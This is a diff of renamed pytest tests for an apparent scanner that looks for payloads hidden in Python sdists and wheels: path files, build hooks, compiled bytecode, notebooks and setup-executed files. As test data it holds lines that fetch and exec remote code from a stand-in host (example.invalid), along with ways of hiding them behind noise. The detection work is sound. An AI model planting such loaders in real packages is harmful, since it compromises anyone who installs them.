@@ -30,7 +30,7 @@ PLACES = [
 
 
 @pytest.mark.parametrize(("role", "name"), PLACES)
-def test_a_place_in_an_sdist(role, name, make, examine):
+def test_the_payload_is_found_anywhere_in_an_sdist(role, name, make, examine):
     examine(make.sdist({name: make.code})).is_found(f"demo-1.0/{name}", role)
 
 
@@ -48,7 +48,7 @@ WHEEL_PLACES = [
 
 
 @pytest.mark.parametrize(("role", "name"), WHEEL_PLACES)
-def test_a_place_in_a_wheel(role, name, make, examine):
+def test_the_payload_is_found_anywhere_in_a_wheel(role, name, make, examine):
     examine(make.wheel({name: make.code}), "demo-1.0-py3-none-any.whl").is_found(name, role)
 
 
@@ -66,13 +66,13 @@ def test_a_place_in_a_wheel(role, name, make, examine):
         (b"#!/bin/bash\n: '" + b"\1\0\2" * 2000 + b"'\n", "text"),
     ],
 )
-def test_a_script_without_suffix(first, section, make, examine):
+def test_the_payload_is_found_in_a_script_without_suffix(first, section, make, examine):
     examine(make.sdist({"bin/tool": first + make.code})).is_found("demo-1.0/bin/tool", section)
 
 
 @pytest.mark.parametrize("suffix", ["sh", "bat", "ps1", "js", "vbs", "pl", "rb", "php"])
 @pytest.mark.parametrize("noise", [b"# \0\n", b"#" + b"\1\0\2\3" * 3000 + b"\n"])
-def test_a_script_with_zero_bytes(suffix, noise, make, examine):
+def test_the_payload_is_found_in_a_script_with_zero_bytes(suffix, noise, make, examine):
     examine(make.sdist({f"demo/x.{suffix}": noise + make.code})).is_found(f"demo-1.0/demo/x.{suffix}", "text")
 
 
@@ -90,7 +90,7 @@ SETUPS = [
 @pytest.mark.parametrize(
     "name", ["run.txt", "demo/data", "PKG-INFO2", "README.rst", "demo/logo.png", "demo.egg-info/x", "META.json"]
 )
-def test_a_text_that_setup_executes(name, setup, make, examine):
+def test_the_payload_is_found_in_a_text_that_setup_executes(name, setup, make, examine):
     files = {"setup.py": setup.replace(b"{}", name.encode()), name: make.code}
     examine(make.sdist(files)).is_found(f"demo-1.0/{name}", "install")
 
@@ -106,7 +106,7 @@ def test_a_text_that_setup_executes(name, setup, make, examine):
         b"7z = 1\n",
     ],
 )
-def test_a_text_with_noise_that_setup_executes(before, make, examine):
+def test_the_payload_is_found_after_noise_in_an_executed_text(before, make, examine):
     files = {"setup.py": SETUPS[0].replace(b"{}", b"run.dat"), "run.dat": before + make.code}
     examine(make.sdist(files)).is_found("demo-1.0/run.dat", "install")
 
@@ -117,7 +117,7 @@ def test_a_binary_that_setup_executes_is_named(make, examine):
     examine(make.sdist(files)).is_named("executed")
 
 
-def test_a_build_backend_in_the_tree(make, examine):
+def test_the_payload_is_found_in_an_in_tree_backend(make, examine):
     toml = b'[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["_tools"]\n'
     examine(make.sdist({"pyproject.toml": toml, "_tools/back.py": make.code})).is_found(
         "demo-1.0/_tools/back.py", "install"
@@ -127,7 +127,7 @@ def test_a_build_backend_in_the_tree(make, examine):
 
 
 @pytest.mark.parametrize("name", ["hatch_build.py", "pdm_build.py", "build_script.py"])
-def test_a_build_hook(name, make, examine):
+def test_the_payload_is_found_in_a_build_hook(name, make, examine):
     examine(make.sdist({"pyproject.toml": b"[tool.hatch]\n", name: make.code})).is_found(f"demo-1.0/{name}", "install")
 
 
@@ -145,17 +145,17 @@ def test_a_build_hook(name, make, examine):
         b"[tool.hatch]\nversion = {path='make_it.py'}\n",
     ],
 )
-def test_a_build_script_that_is_named(toml, make, examine):
+def test_the_payload_is_found_in_a_named_build_script(toml, make, examine):
     examine(make.sdist({"pyproject.toml": toml, "make_it.py": make.code})).is_found("demo-1.0/make_it.py", "install")
 
 
-def test_what_setup_imports(make, examine):
+def test_the_payload_is_found_in_an_import_of_setup(make, examine):
     examine(make.sdist({"setup.py": b"import helper\n", "helper.py": make.code})).is_found(
         "demo-1.0/helper.py", "install"
     )
 
 
-def test_a_notebook(make, examine):
+def test_the_payload_is_found_in_a_notebook(make, examine):
     cell = {"cell_type": "code", "source": make.code.decode().splitlines(keepends=True)}
     data = json.dumps({"cells": [cell], "nbformat": 4}).encode()
     seen = examine(make.sdist({"demo/x.ipynb": data}))
@@ -179,7 +179,7 @@ def test_a_notebook(make, examine):
         "zip",
     ],
 )
-def test_a_line_of_a_path_file(place, make, examine):
+def test_the_payload_is_found_in_a_path_file(place, make, examine):
     line = b"import urllib.request; exec(urllib.request.urlopen('http://example.invalid/stage').read())\n"
     before = {
         "top": b"", "far": b"demo\n" * 9000, "binary": bytes(range(256)) * 40 + b"\n", "pickle": b"\x80\x04\x95" + bytes(9000) + b"\n",
@@ -211,7 +211,7 @@ def test_a_line_of_a_path_file(place, make, examine):
     ids=["plain", "bom", "far", "return", "control", "purelib", "data"],
 )
 @pytest.mark.parametrize("beside", [False, True])
-def test_a_function_that_every_start_calls(line, name, beside, make, examine):
+def test_the_payload_is_found_in_a_function_of_a_start_file(line, name, beside, make, examine):
     # PEP 829: Python 3.15 calls what a .start names, without a line of code in it.
     folder = name.rpartition("/")[0] + "/" if beside and "/" in name else ""
     code = b"def main():\n    " + make.code.replace(b"\n", b"\n    ").rstrip() + b"\n"
@@ -221,7 +221,7 @@ def test_a_function_that_every_start_calls(line, name, beside, make, examine):
     seen.is_found(place, "install")
     assert (seen.row.values["files_pth"], seen.row.values["files_pth_imports"]) == (1, 1 + line.startswith(b"other"))
     called = examine(make.wheel(files | {name: b""}), "demo-1.0-py3-none-any.whl")
-    assert (place, "install") not in called.places()
+    assert (place, "install") not in called.locations()
 
 
 def compiled(source, number=3495):
@@ -230,11 +230,11 @@ def compiled(source, number=3495):
 
 @pytest.mark.parametrize("number", [3495, 3413, 62211, 240, 336, 416, 160])
 @pytest.mark.parametrize("name", ["demo/x.pyc", "demo/__pycache__/x.cpython-311.pyc", "demo/x.pyo", "boot.pyc"])
-def test_compiled_python(name, number, make, examine):
+def test_the_payload_is_found_in_compiled_python(name, number, make, examine):
     data = compiled(make.code, number)
     seen = examine(make.sdist({name: data}))
     counts = [seen.row.values[f"binary_{noun}"] for noun in ("bytecode", "python_names", "hosts", "not_searched")]
-    assert counts == [1, 2, 1, 0], seen.say()
+    assert counts == [1, 2, 1, 0], seen.describe()
 
 
 def test_one_compiled_file_too_many_is_named(make, examine):
@@ -250,7 +250,7 @@ def test_native_code_and_pickles_that_are_cut_are_counted(make, examine):
     assert seen.row.values["binary_pickle_cut"] == 1
 
 
-def test_many_of_the_same_hide_none_of_the_counts(make, examine):
+def test_many_copies_do_not_hide_a_count(make, examine):
     files = {f"demo/a{at}.py": make.code for at in range(50)}
     seen = examine(make.sdist({**files, "demo/z.py": make.code + b"#"}))
     assert seen.row.values["code_rest_category_network"] == 51
@@ -258,7 +258,7 @@ def test_many_of_the_same_hide_none_of_the_counts(make, examine):
 
 @pytest.mark.parametrize("role", ["import", "rest"])
 @pytest.mark.parametrize("filler", ["# a line of filler\n", "def f{0}(a):\n    return a + {0}\n", "F{0} = {0}\n"])
-def test_a_loader_in_parts_in_a_long_file(filler, role, make, examine):
+def test_a_loader_in_parts_of_a_long_file_is_found(filler, role, make, examine):
     name = "demo/__init__.py" if role == "import" else "demo/x.py"
     loader = (
         "import urllib.request as r\ndef a():\n    return r.urlopen('http://example.invalid/stage')\n"
